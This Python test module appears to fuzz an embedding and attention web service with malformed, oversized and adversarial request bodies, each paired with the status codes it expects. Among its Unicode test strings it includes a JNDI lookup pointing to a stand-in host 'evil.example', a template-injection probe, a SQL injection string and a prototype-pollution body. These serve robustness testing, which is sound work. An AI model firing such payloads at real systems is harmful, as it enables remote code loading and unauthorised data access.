"""Bodies that are no JSON, no request, or a request for as much as there may be; and texts of all sorts."""

import json
from collections.abc import Mapping
from random import Random

from tests.storm.attack import (
    BAD,
    INVALID,
    LARGE,
    LATE,
    OK,
    UNFOUND,
    Attack,
    Kinds,
    once,
    request,
    route,
    word,
)

LIMIT = 2 * 2**20

_NO_JSON = (
    b"",
    b"\x00",
    b"{",
    b'{"inputs": "a"',
    b'{"inputs": "a"}}',
    b"{'inputs': 'a'}",
    b'{"inputs": "a",}',
    b"\xef\xbb\xbf" + b'{"inputs": "a"}',
    '{"inputs": "a"}'.encode("utf-16"),
    '{"inputs": "a"}'.encode("utf-32"),
    b'{"inputs": "a", "dimensions": NaN}',
    b'{"inputs": "a", "dimensions": Infinity}',
    b'{"inputs": "a", "dimensions": 1e999}',
    b'{"inputs": "a", "dimensions": 01}',
    b'{"inputs": "\\x41"}',
    b'{"inputs": "\t"}',
    b"<inputs>a</inputs>",
    b"inputs=a",
)
_NO_UTF8 = (
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf5\x80\x80\x80",
    b"\xe2\x82",
    b"\x80",
    b"\xf4\x90\x80\x80",
)
_SURROGATES = (b"\\ud800", b"\\udc00", b"\\udfff\\ud800", b"\\ud800a", b"\\uD83D\\u0041")
_NOT_INPUTS = (
    *(
        b"null",
        b"true",
        b"1",
        b"1.5",
        b"{}",
        b"[]",
        b"[[]]",
        b'[["a"]]',
        b'[["a", "b", "c"]]',
        b"[null]",
        b"[1]",
    ),
    *(b'["a", ["a", "b"]]', b'[["a", 1]]', b'{"0": "a"}', b'["a", null]', b'[[["a"]]]', b'{"__proto__": []}'),
)
_NUMBERS = (
    b"0",
    b"-1",
    b"1e30",
    b"9" * 400,
    b"-" + b"9" * 5000,
    b"1.5",
    b'"6"',
    b"true",
    b"[]",
    b"1e-400",
    b"1E+18",
)
_STORMS = (
    "\u200b\u200c\u200d\ufeff",
    "e\u0301\u0302\u0303\u0304",
    "\u202e\u2066\u2069\u200f",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\ufdfa",
    "\u0000\u0001\u001b[31m\u007f",
    "\uffff\ufffe\U0010ffff",
    "[SEP][CLS][MASK][UNK][PAD]",
    "\u1100\u1161\u11a8",
    "\u3042\u6f22\u0e01",
    "\u0130\u0131\u1e9e",
    "\r\n\u2028\u2029\u0085",
    "##a##b",
    "${jndi:ldap://evil.example/a}{{7*7}}",
    "' OR 1=1 --",
)
_CLASHES: tuple[Mapping[str, object], ...] = (
    {"maps": False},
    {"aggregate": "rollout", "weights": "score"},
    {"renormalize": True, "weights": "score"},
    {"decimals": 10},
    {"queries": [0], "special_tokens": "drop"},
    {"top_k": 0},
    {"pooling": "mean"},
)


def body(**fields: object) -> bytes:
    """A body as a client in Python writes it."""
    return json.dumps(fields).encode()


def _cut(random: Random) -> Attack:
    """A good body with one byte changed: still good, or refused."""
    sent = bytearray(b'{"inputs": ["hello", "b"], "dimensions": 1, "normalize": true}')
    sent[random.randrange(len(sent))] = random.randrange(256)
    return once(request(bytes(sent)), OK | BAD | INVALID | UNFOUND)


def _deep(random: Random) -> Attack:
    opened = random.choice((b"[", b'{"a":', b'[{"a":'))
    depth = random.choice((1100, 20_000, 100_000))
    closed = {b"[": b"]", b'{"a":': b"}", b'[{"a":': b"}]"}[opened]
    tail = b"1" + closed * depth if random.random() < 0.5 else b""
    return once(request(b'{"inputs": ' + opened * depth + tail + b"}", path=route(random)), BAD, least=1)


def _shallow(random: Random) -> Attack:
    depth = random.randint(3, 900)
    return once(
        request(b'{"inputs": ' + b"[" * depth + b'"a"' + b"]" * depth + b"}", path=route(random)), INVALID
    )


def _number(random: Random) -> Attack:
    name = random.choice((b"dimensions", b"layers", b"pooling_layers"))
    number = random.choice(_NUMBERS)
    value = number if name == b"dimensions" else b"[%b]" % number
    return once(
        request(b'{"inputs": "a", %b, "%b": %b}' % (b'"outputs": ["sentence", "tokens"]', name, value)),
        OK | INVALID | BAD,
    )


def _twice(random: Random) -> Attack:
    """The last of equal keys counts, as everywhere."""
    return once(request(b'{"inputs": 1, "inputs": "%b", "dimensions": 1}' % word(random)), OK)


def _fields(random: Random) -> Attack:
    count = random.choice((1, 60, 1000, 5000))
    names = {word(random).decode() + str(i): i for i in range(count)}
    return once(request(body(inputs="a", **names), path=route(random)), INVALID)


def _storm(random: Random) -> Attack:
    text = "".join(random.choices(_STORMS, k=random.choice((1, 20, 200))))
    fields: dict[str, object] = {"inputs": text, "dimensions": 1}
    path = b"/encode"
    if random.random() < 0.4:
        path = b"/attention"
        fields = {
            "inputs": text,
            "level": random.choice(("word", "token")),
            "layers": [0],
            "heads": [0],
            "top_k": 1,
        }
    return once(request(body(**fields), path=path), OK)


def _pairs(random: Random) -> Attack:
    text = random.choice(_STORMS)
    return once(request(body(inputs=[[text, ""], ["", text]], dimensions=1)), OK)


def _prompt(random: Random) -> Attack:
    fields = random.choice(
        (
            {"prompt": random.choice(_STORMS) * 300, "dimensions": 1},
            {"prompt_name": random.choice(_STORMS)},
            {"prompt": "", "prompt_name": "x"},
        )
    )
    return once(request(body(inputs="a", **fields)), OK | INVALID)


def _indices(random: Random) -> Attack:
    name = random.choice(("layers", "heads", "queries", "keys"))
    count = random.choice((4096, 4097, 100_000))
    value = random.choice((0, -1, 10**6))
    options = {"layers": [0], "heads": [0], "queries": [0], "keys": [0]} | {name: [value] * count}
    return once(request(body(inputs="a", **options), path=b"/attention"), OK | INVALID)


def _clashing(random: Random) -> Attack:
    """Options without effect, or against each other."""
    options = random.choice(_CLASHES)
    return once(request(body(inputs="a b", **options), path=b"/attention"), INVALID)


def _large_answer(random: Random) -> Attack:
    inputs = ["word " * 250] * random.randint(2, 40)
    return once(request(body(inputs=inputs), path=b"/attention"), LARGE)


def _most(random: Random) -> Attack:
    """As many inputs as there may be, empty or tiny."""
    inputs = [random.choice(("", "a", word(random).decode()))] * 256
    return once(request(body(inputs=inputs, dimensions=1)), OK)


def _many_of_nothing(random: Random) -> Attack:
    item = random.choice((b"[]", b"{}", b'["",""]', b"[[]]", b'{"":1}', b"1", b'""', b"null"))
    name = random.choice((b"inputs", b"layers", b"outputs", b"x"))
    begin = b'{"%b": [' % name
    items = b",".join([item] * (LIMIT // (len(item) + 1) - 20))
    return once(request(begin + items + b"]}", path=route(random)), INVALID | LARGE)


def _long_value(random: Random) -> Attack:
    name, status = random.choice(
        ((b"model", UNFOUND), (b"pooling", INVALID), (b"prompt_name", INVALID), (b"x", INVALID))
    )
    return once(request(b'{"inputs": "a", "%b": "%b"}' % (name, word(random, 1) * 1_000_000)), status)


BODIES: Kinds = {
    "no JSON": lambda r: once(request(r.choice(_NO_JSON), path=route(r)), BAD),
    "no UTF-8": lambda r: once(request(b'{"inputs": "a%b"}' % r.choice(_NO_UTF8), path=route(r)), BAD),
    "a lone surrogate": lambda r: once(
        request(b'{"inputs": ["%b"]}' % r.choice(_SURROGATES), path=route(r)), BAD
    ),
    "no object": lambda r: once(request(r.choice((*_NOT_INPUTS, b'"a"')), path=route(r)), INVALID),
    "no inputs": lambda r: once(request(b'{"inputs": %b}' % r.choice(_NOT_INPUTS), path=route(r)), INVALID),
    "a byte of a body": _cut,
    "nested deep": _deep,
    "nested": _shallow,
    "numbers": _number,
    "a key twice": _twice,
    "fields that there are not": _fields,
    "a storm of characters": _storm,
    "pairs of nothing and something": _pairs,
    "prompts": _prompt,
    "long index lists": _indices,
    "options against each other": _clashing,
    "a model that there is not": lambda r: once(
        request(body(inputs="a", model=r.choice(_STORMS)), path=route(r)), UNFOUND
    ),
    "random JSON": lambda r: once(request(r.randbytes(r.randint(1, 400)), path=route(r)), BAD | INVALID),
    "maps that are too large": _large_answer,
    "too many inputs": lambda r: once(
        request(body(inputs=["a"] * r.randint(257, 5000)), path=route(r)), LARGE
    ),
    "a cut that is not allowed": lambda r: once(
        request(body(inputs="word " * r.randint(300, 3000), truncate=False), path=route(r)), INVALID
    ),
}
# A text of a megabyte takes a second of tokenizing, in turns with all others that come meanwhile.
HEAVY_BODIES: Kinds = {
    "as many inputs as there may be": _most,
    "millions of nothing": _many_of_nothing,
    "a value of a megabyte": _long_value,
    "a megabyte before each input": lambda r: once(
        request(body(inputs=["a"] * r.randint(3, 256), prompt=word(r).decode() * 130_000)), LARGE
    ),
    "a text of a megabyte": lambda r: once(
        request(body(inputs=word(r).decode() * 130_000, dimensions=1)), OK | LATE
    ),
    "a text of a megabyte of storm": lambda r: once(
        request(
            json.dumps({"inputs": r.choice(_STORMS) * 40_000, "dimensions": 1}, ensure_ascii=False).encode()
        ),
        OK | LATE,
    ),
}
